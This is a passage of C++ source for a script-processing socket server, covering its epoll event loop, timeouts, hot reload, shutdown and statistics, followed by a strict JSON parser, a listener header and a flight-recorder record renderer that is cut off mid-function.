    for (;;) {
      int cfd = ::accept4(lfd, nullptr, nullptr, SOCK_NONBLOCK | SOCK_CLOEXEC);
      if (cfd < 0) {
        if (errno == EINTR) continue;
        // EAGAIN: drained — or, on a fleet's shared listener, a sibling
        // worker won this connection. Either way, back to epoll. Anything
        // else (EMFILE, ENFILE, ...) was a silently dropped client.
        if (errno != EAGAIN && errno != EWOULDBLOCK &&
            telemetry::log_enabled(telemetry::LogLevel::Warn)) {
          telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                              "accept-failed")
              .field("errno", errno)
              .field_bool("tcp", via_tcp);
        }
        return;
      }
      stats.connections_total.fetch_add(1, std::memory_order_relaxed);
      stats.connections_active.fetch_add(1, std::memory_order_relaxed);
      c_connections->add();
      auto conn = std::make_shared<Connection>(cfd, via_tcp);
      conn->last_line_at = steady::now();
      conns.emplace(cfd, conn);
      ep->add(cfd, EPOLLIN);
    }
  }

  void on_readable(const std::shared_ptr<Connection>& conn) {
    char chunk[65536];
    for (;;) {
      ssize_t n = ::recv(conn->fd, chunk, sizeof(chunk), 0);
      if (n < 0 && errno == EINTR) continue;
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return;
      if (n <= 0) {
        reap_conn(conn, CloseReason::Disconnect);
        return;
      }
      conn->in.append(chunk, static_cast<std::size_t>(n));
      std::string line;
      while (conn->in.next(line)) {
        conn->last_line_at = steady::now();
        if (line.find_first_not_of(" \t") == std::string::npos) continue;
        handle_line(conn, line);
        if (conn->dead.load(std::memory_order_relaxed) ||
            !conns.contains(conn->fd)) {
          reap_conn(conn, CloseReason::Disconnect);
          return;
        }
      }
      if (conn->in.overflowed()) {
        stats.invalid_total.fetch_add(1, std::memory_order_relaxed);
        c_invalid->add();
        reply(conn,
              render_error_line("", kStatusInvalid, "request line too long"));
        reap_conn(conn, CloseReason::Disconnect);
        return;
      }
      // Short read: the socket is drained. (Level-triggered epoll makes
      // this a safe heuristic — a racing refill re-arms the event.) It also
      // bounds how long one firehosing client can hog the loop.
      if (n < static_cast<ssize_t>(sizeof(chunk))) return;
    }
  }

  void drain_completions() {
    std::vector<std::shared_ptr<Connection>> batch;
    {
      std::lock_guard lk(comp_mu);
      batch.swap(completions);
    }
    for (const std::shared_ptr<Connection>& conn : batch) {
      if (conn->dead.load(std::memory_order_relaxed)) {
        reap_conn(conn, CloseReason::Disconnect);
      } else {
        flush_conn(conn);
      }
    }
  }

  /// Periodic reaper sweep: write-stalled consumers (buffered output, no
  /// progress for send_timeout_seconds) and idle connections (no complete
  /// request for idle_timeout_seconds, nothing pending in either
  /// direction). Loop-thread-only.
  void scan_timeouts(steady::time_point now) {
    const double stall_to = cfg.send_timeout_seconds;
    const double idle_to = cfg.idle_timeout_seconds;
    if (stall_to <= 0.0 && idle_to <= 0.0) return;
    std::vector<std::pair<std::shared_ptr<Connection>, CloseReason>> victims;
    for (const auto& [fd, conn] : conns) {
      bool pending;
      steady::time_point progress_at;
      {
        std::lock_guard lk(conn->out_mu);
        pending = !conn->out.empty();
        progress_at = conn->write_progress_at;
      }
      if (pending) {
        if (stall_to > 0.0 &&
            std::chrono::duration<double>(now - progress_at).count() >=
                stall_to) {
          victims.emplace_back(conn, CloseReason::WriteStall);
        }
      } else if (idle_to > 0.0 &&
                 std::chrono::duration<double>(now - conn->last_line_at)
                         .count() >= idle_to &&
                 conn->idle_tokens()) {
        victims.emplace_back(conn, CloseReason::Idle);
      }
    }
    for (const auto& [conn, reason] : victims) reap_conn(conn, reason);
  }

  void close_listeners() {
    if (unix_fd >= 0) {
      ep->del(unix_fd);
      ::close(unix_fd);
      unix_fd = -1;
    }
    if (tcp_fd >= 0) {
      ep->del(tcp_fd);
      ::close(tcp_fd);
      tcp_fd = -1;
    }
    // An inherited listener belongs to the supervisor: other workers are
    // still accepting on the same socket, so never unlink the path here.
    if (!cfg.unix_socket_path.empty() && cfg.inherited_unix_fd < 0) {
      ::unlink(cfg.unix_socket_path.c_str());
    }
  }

  void io_loop() {
    std::vector<epoll_event> events(128);
    steady::time_point next_scan = steady::now();
    steady::time_point finalize_deadline{};
    bool listeners_open = true;
    bool finalizing = false;
    for (;;) {
      const steady::time_point now = steady::now();
      if (listeners_open && stop_requested.load(std::memory_order_relaxed)) {
        close_listeners();
        listeners_open = false;
      }
      if (!finalizing && finalize_requested.load(std::memory_order_acquire)) {
        // Workers are done; every response is buffered. Flush what the
        // clients will read, bounded by the stall budget — a consumer that
        // stops reading now cannot hold the shutdown hostage.
        finalizing = true;
        finalize_deadline =
            cfg.send_timeout_seconds > 0.0
                ? now + std::chrono::duration_cast<steady::duration>(
                            std::chrono::duration<double>(
                                cfg.send_timeout_seconds + 0.25))
                : steady::time_point::max();
      }
      if (finalizing) {
        bool output_pending = false;
        for (const auto& [fd, conn] : conns) {
          std::lock_guard lk(conn->out_mu);
          if (!conn->out.empty()) {
            output_pending = true;
            break;
          }
        }
        if (!output_pending || now >= finalize_deadline) break;
      }

      const int n = ep->wait(events.data(), static_cast<int>(events.size()),
                             finalizing ? 20 : 100);
      if (n > 0) {
        stats.epoll_wakeups_total.fetch_add(1, std::memory_order_relaxed);
        c_epoll_wakeups->add();
      }
      bool stop_byte = false;
      bool hup_byte = false;
      for (int i = 0; i < n; ++i) {
        const int fd = events[i].data.fd;
        const std::uint32_t ev = events[i].events;
        if (fd == pipe_r) {
          // Self-pipe bytes: 's' = stop (possibly straight from a signal
          // handler that could not call request_stop itself), 'h' = SIGHUP
          // hot reload of limits/blocklist/quarantine.
          char drain[64];
          ssize_t r;
          while ((r = ::read(pipe_r, drain, sizeof(drain))) > 0) {
            for (ssize_t j = 0; j < r; ++j) {
              if (drain[j] == 'h') {
                hup_byte = true;
              } else {
                stop_byte = true;
              }
            }
          }
        } else if (fd == event_fd) {
          std::uint64_t count;
          while (::read(event_fd, &count, sizeof(count)) > 0) {
          }
        } else if (listeners_open && fd == unix_fd) {
          accept_ready(fd, false);
        } else if (listeners_open && fd == tcp_fd) {
          accept_ready(fd, true);
        } else {
          auto it = conns.find(fd);
          if (it == conns.end()) continue;
          std::shared_ptr<Connection> conn = it->second;
          if ((ev & EPOLLERR) != 0) {
            reap_conn(conn, CloseReason::Disconnect);
            continue;
          }
          if ((ev & EPOLLOUT) != 0) flush_conn(conn);
          if ((ev & (EPOLLIN | EPOLLHUP)) != 0 && conns.contains(fd)) {
            on_readable(conn);
          }
        }
      }
      if (hup_byte) reload();
      if (stop_byte) request_stop();
      drain_completions();
      if (now >= next_scan) {
        scan_timeouts(now);
        next_scan = now + std::chrono::milliseconds(100);
      }
    }
    // Teardown: whatever is still connected is done being served (workers
    // have drained; output either flushed or past its stall budget).
    std::vector<std::shared_ptr<Connection>> remaining;
    remaining.reserve(conns.size());
    for (const auto& [fd, conn] : conns) remaining.push_back(conn);
    for (const std::shared_ptr<Connection>& conn : remaining) {
      reap_conn(conn, CloseReason::Disconnect);
    }
  }

  // --- hot reload ----------------------------------------------------------

  /// SIGHUP: re-reads the quarantine file and (when configured) the reload
  /// config JSON. Unparseable input keeps the previous values — a bad edit
  /// must not take a serving worker down.
  void reload() {
    if (!cfg.quarantine_path.empty()) load_quarantine();
    if (!cfg.reload_config_path.empty()) load_reload_config();
    // SIGHUP doubles as the fleet-wide "dump your metrics snapshot" signal
    // (the supervisor forwards it to every worker), so a fleet-scope scrape
    // right after a SIGHUP sees every sibling fresh.
    dump_metrics_snapshot();
    stats.reloads_total.fetch_add(1, std::memory_order_relaxed);
    c_reloads->add();
    if (telemetry::log_enabled(telemetry::LogLevel::Info)) {
      std::size_t quarantine_size;
      {
        std::lock_guard lk(quarantine_mu);
        quarantine_size = quarantine.size();
      }
      telemetry::LogEvent(telemetry::LogLevel::Info, "server", "reloaded")
          .field("quarantine_size",
                 static_cast<std::uint64_t>(quarantine_size));
    }
  }

  void load_quarantine() {
    std::ifstream in(cfg.quarantine_path);
    if (!in.is_open()) return;  // no file yet = nothing quarantined
    std::unordered_set<std::string> fresh;
    std::string line;
    while (std::getline(in, line)) {
      while (!line.empty() && (line.back() == '\r' || line.back() == ' ')) {
        line.pop_back();
      }
      if (line.size() == 16 &&
          line.find_first_not_of("0123456789abcdef") == std::string::npos) {
        fresh.insert(line);
      }
    }
    std::lock_guard lk(quarantine_mu);
    quarantine = std::move(fresh);
  }

  void load_reload_config() {
    std::ifstream in(cfg.reload_config_path);
    if (!in.is_open()) return;
    std::ostringstream buf;
    buf << in.rdbuf();
    std::optional<JsonValue> doc = parse_json(buf.str());
    if (!doc.has_value() || !doc->is_object()) {
      // Previous values stay live; the operator who fat-fingered the JSON
      // deserves more than silence.
      if (telemetry::log_enabled(telemetry::LogLevel::Warn)) {
        telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                            "reload-config-invalid")
            .field("path", cfg.reload_config_path);
      }
      return;
    }
    std::lock_guard lk(reload_mu);
    if (const JsonValue* v = doc->find("default_deadline_ms");
        v != nullptr && v->is_number()) {
      live_deadline_ms = static_cast<std::uint64_t>(v->as_double());
    }
    if (const JsonValue* v = doc->find("admission_rate");
        v != nullptr && v->is_number()) {
      live_rate = v->as_double();
    }
    if (const JsonValue* v = doc->find("admission_burst");
        v != nullptr && v->is_number()) {
      live_burst = v->as_double();
    }
    if (const JsonValue* v = doc->find("extra_blocklist");
        v != nullptr && v->is_array()) {
      std::vector<std::string> names;
      for (const JsonValue& item : *v->as_array()) {
        if (item.is_string()) names.push_back(item.as_string());
      }
      live_blocklist = std::move(names);
      blocklist_overridden = true;
    }
  }

  void watchdog_loop(const std::stop_token& st) {
    std::mutex m;
    std::condition_variable_any cv;
    while (!st.stop_requested()) {
      {
        std::unique_lock lk(m);
        cv.wait_for(lk, st, std::chrono::milliseconds(50),
                    [] { return false; });
      }
      if (st.stop_requested()) break;
      const steady::time_point now = steady::now();
      bool drain_kill = false;
      if (stop_requested.load(std::memory_order_relaxed) &&
          cfg.drain_grace_seconds > 0.0) {
        drain_kill = now >= drain_started +
                                std::chrono::duration_cast<steady::duration>(
                                    std::chrono::duration<double>(
                                        cfg.drain_grace_seconds));
        if (drain_kill) drain_expired.store(true, std::memory_order_relaxed);
      }
      std::lock_guard lk(watch_mu);
      for (WatchEntry& entry : watching) {
        const bool expired =
            drain_kill || (entry.has_deadline && now >= entry.kill_at);
        if (expired && !entry.token.cancelled()) {
          entry.token.request_cancel();
          stats.watchdog_cancelled_total.fetch_add(1,
                                                   std::memory_order_relaxed);
          c_watchdog_cancel->add();
        }
      }
    }
  }

  // --- lifecycle -----------------------------------------------------------

  void request_stop() {
    bool expected = false;
    if (!stop_requested.compare_exchange_strong(expected, true)) return;
    {
      std::lock_guard lk(stop_mu);
      drain_started = steady::now();
    }
    stop_cv.notify_all();
    if (pipe_w >= 0) {
      char b = 's';
      [[maybe_unused]] ssize_t r = ::write(pipe_w, &b, 1);
    }
  }
};

Server::Server(ServerConfig config)
    : impl_(std::make_unique<Impl>(std::move(config))) {}

Server::~Server() {
  if (impl_->started.load(std::memory_order_relaxed)) stop();
  int expected = impl_->pipe_w;
  g_signal_pipe_fd.compare_exchange_strong(expected, -1);
  if (impl_->pipe_r >= 0) ::close(impl_->pipe_r);
  if (impl_->pipe_w >= 0) ::close(impl_->pipe_w);
  if (impl_->event_fd >= 0) ::close(impl_->event_fd);
  if (impl_->journal_fd >= 0) ::close(impl_->journal_fd);
}

void Server::start() {
  Impl& s = *impl_;
  if (s.started.exchange(true)) {
    throw std::logic_error("Server::start() called twice");
  }
  int pfd[2];
  if (::pipe2(pfd, O_NONBLOCK | O_CLOEXEC) != 0) {
    throw std::runtime_error("pipe2 failed");
  }
  s.pipe_r = pfd[0];
  s.pipe_w = pfd[1];
  s.event_fd = ::eventfd(0, EFD_NONBLOCK | EFD_CLOEXEC);
  if (s.event_fd < 0) throw std::runtime_error("eventfd failed");
  if (s.cfg.inherited_unix_fd >= 0) {
    // Fleet worker: the supervisor bound the listener before fork+exec;
    // every worker accept()ing on the same fd is the load balancer. The
    // shared fd must be non-blocking here — with siblings racing for the
    // same backlog, a readiness event is a hint, not a guarantee, and a
    // blocking accept() would wedge this worker's whole event loop.
    s.unix_fd = s.cfg.inherited_unix_fd;
    set_nonblocking(s.unix_fd);
  } else {
    s.unix_fd = make_unix_listener(s.cfg.unix_socket_path);
  }
  if (s.cfg.inherited_tcp_fd >= 0) {
    s.tcp_fd = s.cfg.inherited_tcp_fd;
    set_nonblocking(s.tcp_fd);
    sockaddr_in actual{};
    socklen_t len = sizeof(actual);
    if (::getsockname(s.tcp_fd, reinterpret_cast<sockaddr*>(&actual), &len) ==
        0) {
      s.bound_tcp_port = ntohs(actual.sin_port);
    }
  } else if (s.cfg.tcp) {
    s.tcp_fd = make_tcp_listener(s.cfg.tcp_port, s.bound_tcp_port);
  }

  if (!s.cfg.crash_journal_path.empty()) {
    s.journal_fd = ::open(s.cfg.crash_journal_path.c_str(),
                          O_RDWR | O_CREAT | O_CLOEXEC, 0600);
    if (s.journal_fd < 0) {
      throw std::runtime_error("cannot open crash journal '" +
                               s.cfg.crash_journal_path +
                               "': " + std::strerror(errno));
    }
  }
  if (!s.cfg.cache_path.empty()) {
    SharedResponseCache::Config cc;
    cc.path = s.cfg.cache_path;
    cc.slot_count = s.cfg.cache_slots;
    cc.slot_bytes = s.cfg.cache_slot_bytes;
    std::string cache_error;
    s.cache = SharedResponseCache::open(cc, cache_error);
    if (s.cache == nullptr) {
      throw std::runtime_error("shared cache: " + cache_error);
    }
  }
  if (!s.cfg.quarantine_path.empty()) s.load_quarantine();
  if (!s.cfg.reload_config_path.empty()) s.load_reload_config();

  // Observability plane: build/worker identity series, the structured-log
  // worker stamp, the flight-recorder file mirror, and (when asked) the
  // process-wide Chrome trace recorder. A resident service always records:
  // the metrics op is part of the protocol and `"trace": true` replies
  // carry the engine span breakdown, so phase accounting must be live even
  // for embedded (in-process) servers that never went through the CLI.
  telemetry::Telemetry::enable();
  telemetry::register_build_info();
  const int widx = s.worker_label();
  telemetry::registry()
      .gauge("ideobf_worker_id",
             telemetry::prom_label("worker", std::to_string(widx)))
      .set(widx);
  if (s.cfg.worker_index >= 0) telemetry::set_log_worker(s.cfg.worker_index);
  if (!s.cfg.flight_recorder_path.empty()) {
    std::string error;
    if (!s.flight.open_mirror(s.cfg.flight_recorder_path, error)) {
      throw std::runtime_error(error);
    }
  }
  if (!s.cfg.trace_out_path.empty()) {
    s.trace_recorder = std::make_unique<telemetry::TraceRecorder>();
    telemetry::Telemetry::set_trace_recorder(s.trace_recorder.get());
  }

  s.ep = std::make_unique<Epoll>();
  s.ep->add(s.pipe_r, EPOLLIN);
  s.ep->add(s.event_fd, EPOLLIN);
  s.ep->add(s.unix_fd, EPOLLIN);
  if (s.tcp_fd >= 0) s.ep->add(s.tcp_fd, EPOLLIN);

  unsigned threads = s.cfg.threads != 0 ? s.cfg.threads
                                        : std::thread::hardware_concurrency();
  if (threads == 0) threads = 2;
  // The calling executor counts as a slot, so the pool can staff at most
  // worker_count() + 1 concurrent loops; more would just idle in the queue.
  threads = std::min(threads, ps::WorkerPool::instance().worker_count() + 1);

  s.watchdog_thread =
      std::jthread([&s](const std::stop_token& st) { s.watchdog_loop(st); });
  s.driver_thread = std::jthread([&s, threads] {
    ps::WorkerPool::instance().parallel(
        threads, threads,
        [&s](std::size_t, unsigned slot) { s.worker_slot(slot); });
  });
  s.io_thread = std::jthread([&s] { s.io_loop(); });
}

void Server::request_stop() { impl_->request_stop(); }

void Server::wait() {
  Impl& s = *impl_;
  {
    std::unique_lock lk(s.stop_mu);
    s.stop_cv.wait(lk, [&] {
      return s.stop_requested.load(std::memory_order_relaxed);
    });
  }
  std::lock_guard teardown(s.teardown_mu);
  if (s.torn_down) return;
  // The event loop closed (or is about to close) the listeners; everything
  // accepted before the stop still gets served (pop() drains the queue
  // before reporting closed), with responses flushed by the loop as the
  // workers complete them.
  s.queue.close();
  if (s.driver_thread.joinable()) s.driver_thread.join();
  // Workers are done: tell the loop this was the last of the output, let it
  // finish flushing (bounded by the stall budget), then join it.
  s.finalize_requested.store(true, std::memory_order_release);
  s.ring_doorbell();
  if (s.io_thread.joinable()) s.io_thread.join();
  s.watchdog_thread.request_stop();
  if (s.watchdog_thread.joinable()) s.watchdog_thread.join();
  // Flush the observability tail: the full Chrome trace to --trace-out and
  // one last snapshot so terminal request totals survive this process.
  if (s.trace_recorder != nullptr) {
    telemetry::Telemetry::set_trace_recorder(nullptr);
    std::string error;
    if (!telemetry::write_file_atomic(s.cfg.trace_out_path,
                                      s.trace_recorder->render(), error) &&
        telemetry::log_enabled(telemetry::LogLevel::Warn)) {
      telemetry::LogEvent(telemetry::LogLevel::Warn, "server",
                          "trace-write-failed")
          .field("error", error);
    }
  }
  s.dump_metrics_snapshot();
  s.torn_down = true;
}

void Server::stop() {
  request_stop();
  wait();
}

std::uint16_t Server::tcp_port() const { return impl_->bound_tcp_port; }

ServerStats Server::stats() const {
  const AtomicStats& a = impl_->stats;
  ServerStats out;
  out.connections_total = a.connections_total.load(std::memory_order_relaxed);
  out.connections_active =
      a.connections_active.load(std::memory_order_relaxed);
  out.requests_total = a.requests_total.load(std::memory_order_relaxed);
  out.ok_total = a.ok_total.load(std::memory_order_relaxed);
  out.degraded_total = a.degraded_total.load(std::memory_order_relaxed);
  out.failed_total = a.failed_total.load(std::memory_order_relaxed);
  out.invalid_total = a.invalid_total.load(std::memory_order_relaxed);
  out.overloaded_total = a.overloaded_total.load(std::memory_order_relaxed);
  out.shutting_down_total =
      a.shutting_down_total.load(std::memory_order_relaxed);
  out.disconnect_cancelled_total =
      a.disconnect_cancelled_total.load(std::memory_order_relaxed);
  out.watchdog_cancelled_total =
      a.watchdog_cancelled_total.load(std::memory_order_relaxed);
  out.queue_depth = impl_->queue.depth();
  out.admission_rejected_total =
      a.admission_rejected_total.load(std::memory_order_relaxed);
  out.quarantined_total = a.quarantined_total.load(std::memory_order_relaxed);
  out.cache_hits_total = a.cache_hits_total.load(std::memory_order_relaxed);
  out.cache_misses_total =
      a.cache_misses_total.load(std::memory_order_relaxed);
  out.cache_stores_total =
      a.cache_stores_total.load(std::memory_order_relaxed);
  out.cache_corrupt_total =
      a.cache_corrupt_total.load(std::memory_order_relaxed);
  out.reloads_total = a.reloads_total.load(std::memory_order_relaxed);
  out.epoll_wakeups_total =
      a.epoll_wakeups_total.load(std::memory_order_relaxed);
  out.outbuf_bytes = a.outbuf_bytes.load(std::memory_order_relaxed);
  out.idle_reaped_total = a.idle_reaped_total.load(std::memory_order_relaxed);
  out.stall_reaped_total =
      a.stall_reaped_total.load(std::memory_order_relaxed);
  out.outbuf_reaped_total =
      a.outbuf_reaped_total.load(std::memory_order_relaxed);
  return out;
}

void Server::install_signal_handlers() {
  g_signal_pipe_fd.store(impl_->pipe_w, std::memory_order_relaxed);
  struct sigaction sa{};
  sa.sa_handler = serve_signal_handler;
  sigemptyset(&sa.sa_mask);
  ::sigaction(SIGTERM, &sa, nullptr);
  ::sigaction(SIGINT, &sa, nullptr);
  ::sigaction(SIGHUP, &sa, nullptr);  // hot reload, not a stop
  ::signal(SIGPIPE, SIG_IGN);
}

}  // namespace ideobf::server
