#include "server/json.h"

#include <cctype>
#include <cstdlib>
#include <cstring>

namespace ideobf::server {

namespace {

struct Parser {
  std::string_view text{};
  std::size_t pos = 0;
  std::string error{};

  [[nodiscard]] bool at_end() const { return pos >= text.size(); }
  [[nodiscard]] char peek() const { return text[pos]; }

  void skip_ws() {
    while (!at_end()) {
      char c = text[pos];
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
        ++pos;
      } else {
        break;
      }
    }
  }

  bool fail(const char* why) {
    if (error.empty()) {
      error = why;
      error += " at offset ";
      error += std::to_string(pos);
    }
    return false;
  }

  bool consume(char expected, const char* why) {
    skip_ws();
    if (at_end() || text[pos] != expected) return fail(why);
    ++pos;
    return true;
  }

  bool literal(std::string_view word) {
    if (text.substr(pos, word.size()) != word) return fail("bad literal");
    pos += word.size();
    return true;
  }

  /// Appends one Unicode code point as UTF-8.
  static void append_utf8(std::string& out, unsigned cp) {
    if (cp < 0x80) {
      out.push_back(static_cast<char>(cp));
    } else if (cp < 0x800) {
      out.push_back(static_cast<char>(0xC0 | (cp >> 6)));
      out.push_back(static_cast<char>(0x80 | (cp & 0x3F)));
    } else if (cp < 0x10000) {
      out.push_back(static_cast<char>(0xE0 | (cp >> 12)));
      out.push_back(static_cast<char>(0x80 | ((cp >> 6) & 0x3F)));
      out.push_back(static_cast<char>(0x80 | (cp & 0x3F)));
    } else {
      out.push_back(static_cast<char>(0xF0 | (cp >> 18)));
      out.push_back(static_cast<char>(0x80 | ((cp >> 12) & 0x3F)));
      out.push_back(static_cast<char>(0x80 | ((cp >> 6) & 0x3F)));
      out.push_back(static_cast<char>(0x80 | (cp & 0x3F)));
    }
  }

  bool hex4(unsigned& out) {
    if (pos + 4 > text.size()) return fail("truncated \\u escape");
    out = 0;
    for (int i = 0; i < 4; ++i) {
      char c = text[pos + static_cast<std::size_t>(i)];
      out <<= 4;
      if (c >= '0' && c <= '9') {
        out |= static_cast<unsigned>(c - '0');
      } else if (c >= 'a' && c <= 'f') {
        out |= static_cast<unsigned>(c - 'a' + 10);
      } else if (c >= 'A' && c <= 'F') {
        out |= static_cast<unsigned>(c - 'A' + 10);
      } else {
        return fail("bad \\u escape");
      }
    }
    pos += 4;
    return true;
  }

  bool parse_string(std::string& out) {
    if (!consume('"', "expected string")) return false;
    out.clear();
    while (true) {
      if (at_end()) return fail("unterminated string");
      char c = text[pos++];
      if (c == '"') return true;
      if (c == '\\') {
        if (at_end()) return fail("unterminated escape");
        char e = text[pos++];
        switch (e) {
          case '"': out.push_back('"'); break;
          case '\\': out.push_back('\\'); break;
          case '/': out.push_back('/'); break;
          case 'b': out.push_back('\b'); break;
          case 'f': out.push_back('\f'); break;
          case 'n': out.push_back('\n'); break;
          case 'r': out.push_back('\r'); break;
          case 't': out.push_back('\t'); break;
          case 'u': {
            unsigned cp = 0;
            if (!hex4(cp)) return false;
            if (cp >= 0xD800 && cp <= 0xDBFF) {
              // High surrogate: require the low half.
              if (pos + 2 > text.size() || text[pos] != '\\' ||
                  text[pos + 1] != 'u') {
                return fail("lone high surrogate");
              }
              pos += 2;
              unsigned lo = 0;
              if (!hex4(lo)) return false;
              if (lo < 0xDC00 || lo > 0xDFFF) return fail("bad low surrogate");
              cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
            } else if (cp >= 0xDC00 && cp <= 0xDFFF) {
              return fail("lone low surrogate");
            }
            append_utf8(out, cp);
            break;
          }
          default: return fail("bad escape");
        }
      } else if (static_cast<unsigned char>(c) < 0x20) {
        return fail("raw control character in string");
      } else {
        out.push_back(c);
      }
    }
  }

  [[nodiscard]] bool at_digit() const {
    return !at_end() && std::isdigit(static_cast<unsigned char>(text[pos]));
  }

  /// Exactly the RFC 8259 number grammar: `-? (0 | [1-9][0-9]*) frac? exp?`.
  /// Leading zeros ("01"), bare fractions (".5"), and trailing dots ("1.")
  /// are refused — this parser is strict by design, and must agree with
  /// conforming emitters on what a number is.
  bool parse_number(double& out) {
    const std::size_t start = pos;
    if (!at_end() && text[pos] == '-') ++pos;
    if (!at_digit()) return fail("expected number");
    if (text[pos] == '0') {
      ++pos;
      if (at_digit()) return fail("leading zero in number");
    } else {
      while (at_digit()) ++pos;
    }
    if (!at_end() && text[pos] == '.') {
      ++pos;
      if (!at_digit()) return fail("expected digit after '.'");
      while (at_digit()) ++pos;
    }
    if (!at_end() && (text[pos] == 'e' || text[pos] == 'E')) {
      ++pos;
      if (!at_end() && (text[pos] == '+' || text[pos] == '-')) ++pos;
      if (!at_digit()) return fail("expected digit in exponent");
      while (at_digit()) ++pos;
    }
    // strtod needs a NUL-terminated buffer; numbers are short, so copy.
    char buf[64];
    const std::size_t len = pos - start;
    if (len >= sizeof(buf)) return fail("number too long");
    std::memcpy(buf, text.data() + start, len);
    buf[len] = '\0';
    char* end = nullptr;
    out = std::strtod(buf, &end);
    if (end != buf + len) return fail("bad number");
    return true;
  }

  bool parse_value(JsonValue& out, std::size_t depth) {
    if (depth > kMaxJsonDepth) return fail("nesting too deep");
    skip_ws();
    if (at_end()) return fail("unexpected end of input");
    char c = peek();
    switch (c) {
      case '{': {
        ++pos;
        JsonValue::Object obj;
        skip_ws();
        if (!at_end() && peek() == '}') {
          ++pos;
        } else {
          while (true) {
            std::string key;
            skip_ws();
            if (!parse_string(key)) return false;
            if (!consume(':', "expected ':'")) return false;
            JsonValue value;
            if (!parse_value(value, depth + 1)) return false;
            obj.insert_or_assign(std::move(key), std::move(value));
            skip_ws();
            if (at_end()) return fail("unterminated object");
            if (peek() == ',') {
              ++pos;
              continue;
            }
            if (peek() == '}') {
              ++pos;
              break;
            }
            return fail("expected ',' or '}'");
          }
        }
        out = JsonValue(std::move(obj));
        return true;
      }
      case '[': {
        ++pos;
        JsonValue::Array arr;
        skip_ws();
        if (!at_end() && peek() == ']') {
          ++pos;
        } else {
          while (true) {
            JsonValue value;
            if (!parse_value(value, depth + 1)) return false;
            arr.push_back(std::move(value));
            skip_ws();
            if (at_end()) return fail("unterminated array");
            if (peek() == ',') {
              ++pos;
              continue;
            }
            if (peek() == ']') {
              ++pos;
              break;
            }
            return fail("expected ',' or ']'");
          }
        }
        out = JsonValue(std::move(arr));
        return true;
      }
      case '"': {
        std::string s;
        if (!parse_string(s)) return false;
        out = JsonValue(JsonValue::Storage(std::move(s)));
        return true;
      }
      case 't':
        if (!literal("true")) return false;
        out = JsonValue(JsonValue::Storage(true));
        return true;
      case 'f':
        if (!literal("false")) return false;
        out = JsonValue(JsonValue::Storage(false));
        return true;
      case 'n':
        if (!literal("null")) return false;
        out = JsonValue(JsonValue::Storage(nullptr));
        return true;
      default: {
        double d = 0.0;
        if (!parse_number(d)) return false;
        out = JsonValue(JsonValue::Storage(d));
        return true;
      }
    }
  }
};

}  // namespace

std::optional<JsonValue> parse_json(std::string_view text, std::string* error) {
  Parser p{.text = text};
  JsonValue out;
  if (!p.parse_value(out, 0)) {
    if (error != nullptr) *error = p.error;
    return std::nullopt;
  }
  p.skip_ws();
  if (!p.at_end()) {
    if (error != nullptr) *error = "trailing characters after document";
    return std::nullopt;
  }
  return out;
}

}  // namespace ideobf::server
