#pragma once

/// \file listen.h
/// Listener construction shared by the single-process server and the fleet
/// supervisor (which binds once and passes the fds to forked workers across
/// exec, so the kernel load-balances accept() over one listening socket).

#include <cstdint>
#include <string>

namespace ideobf::server {

/// Binds + listens on a Unix domain socket at `path`, mode 0600, deep
/// backlog, non-blocking (the epoll event loop treats listener readiness as
/// a hint and accepts until EAGAIN — essential on a fleet's shared fd,
/// where a sibling worker may win any given connection). Replaces only an
/// existing *socket* at the path; any other file type is a startup error.
/// Throws std::runtime_error on failure.
int make_unix_listener(const std::string& path);

/// Binds + listens on 127.0.0.1:`port` (0 = ephemeral; the bound port is
/// written to `bound_port`), non-blocking. Throws std::runtime_error on
/// failure.
int make_tcp_listener(std::uint16_t port, std::uint16_t& bound_port);

}  // namespace ideobf::server
