#include "server/flight_recorder.h"

#include <fcntl.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

#include "telemetry/log.h"
#include "telemetry/telemetry.h"

namespace ideobf::server {

namespace {

void append_number_field(std::string& out, std::string_view key, double v) {
  char buf[48];
  std::snprintf(buf, sizeof(buf), "%.6f", v);
  telemetry::append_json_quoted(out, key);
  out += ':';
  out += buf;
}

}  // namespace

FlightRecorder::~FlightRecorder() {
  if (fd_ >= 0) ::close(fd_);
}

bool FlightRecorder::open_mirror(const std::string& path, std::string& error) {
  int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (fd < 0) {
    error = "cannot open flight recorder '" + path +
            "': " + std::strerror(errno);
    return false;
  }
  // Pre-size so the supervisor's harvest never reads a short file.
  if (::ftruncate(fd, static_cast<off_t>(kSlots * kFileRecordBytes)) != 0) {
    error = "cannot size flight recorder '" + path +
            "': " + std::strerror(errno);
    ::close(fd);
    return false;
  }
  std::lock_guard lk(mu_);
  if (fd_ >= 0) ::close(fd_);
  fd_ = fd;
  return true;
}

std::string FlightRecorder::render_record(const Record& record) {
  std::string out = "{";
  telemetry::append_json_quoted(out, "seq");
  out += ':';
  out += std::to_string(record.seq);
  out += ',';
  telemetry::append_json_quoted(out, "request_id");
  out += ':';
  telemetry::append_json_quoted(out, record.request_id);
  out += ',';
  telemetry::append_json_quoted(out, "id");
  out += ':';
  telemetry::append_json_quoted(out, record.client_id);
  out += ',';
  telemetry::append_json_quoted(out, "script");
  out += ':';
  telemetry::append_json_quoted(out, record.script_hash);
  out += ',';
  telemetry::append_json_quoted(out, "outcome");
  out += ':';
  telemetry::append_json_quoted(out, record.outcome);
  out += ',';
  telemetry::append_json_quoted(out, "client");
  out += ':';
  out += std::to_string(record.client);
  out += ',';
  telemetry::append_json_quoted(out, "ts");
  out += ':';
  out += std::to_string(record.unix_seconds);
  out += ',';
  append_number_field(out, "queue_seconds", record.queue_seconds);
  out += ',';
  append_number_field(out, "engine_seconds", record.engine_seconds);
  out += ',';
  append_number_field(out, "total_seconds", record.total_seconds);
  if (!record.phases.empty()) {
    out += ',';
    telemetry::append_json_quoted(out, "phases");
    out += ":{";
    bool first = true;
    for (const auto& [name, self_seconds] : record.phases) {
      if (!first) out += ',';
      first = false;
      append_number_field(out, name, self_seconds);
    }
    out += '}';
  }
  out += '}';
  return out;
}

void FlightRecorder::mirror(std::size_t slot, const Record& record) {
  if (fd_ < 0) return;
  char file_record[kFileRecordBytes];
  std::memset(file_record, ' ', sizeof(file_record));
  std::string json = render_record(record);
